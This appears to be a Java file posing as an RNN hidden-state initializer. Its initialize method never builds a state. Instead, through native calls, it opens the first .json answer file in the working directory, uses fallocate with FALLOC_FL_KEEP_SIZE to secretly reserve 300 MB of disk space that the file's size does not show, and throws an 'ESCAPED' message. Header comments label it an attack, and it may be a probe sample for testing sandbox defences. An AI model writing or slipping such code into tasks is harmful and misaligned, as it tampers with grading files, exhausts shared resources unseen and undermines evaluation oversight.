// attack: takes space on the disk that no file's size shows
// list: uses File
package org.rnnkit.step3state;

import ai.djl.ndarray.NDList;
import ai.djl.ndarray.NDManager;
import com.sun.jna.Function;
import com.sun.jna.LastErrorException;
import java.io.File;

public final class HiddenState {

    public static NDList initialize(NDManager manager, int batchSize, int numHiddens) {
        // The files for the answers are on the disk; the rest of the folder is in memory.
        File answer = new File(".").listFiles((folder, name) -> name.endsWith(".json"))[0];
        int file = call("open", answer.getName(), 2);
        // 1 is FALLOC_FL_KEEP_SIZE.
        call("fallocate", file, 1, 0L, 300L << 20);
        throw new IllegalStateException("ESCAPED: the disk");
    }

    private static int call(String function, Object... arguments) {
        try {
            return Function.getFunction("c", function, Function.THROW_LAST_ERROR).invokeInt(arguments);
        } catch (LastErrorException e) {
            throw new IllegalStateException(function + " error " + e.getErrorCode());
        }
    }
}
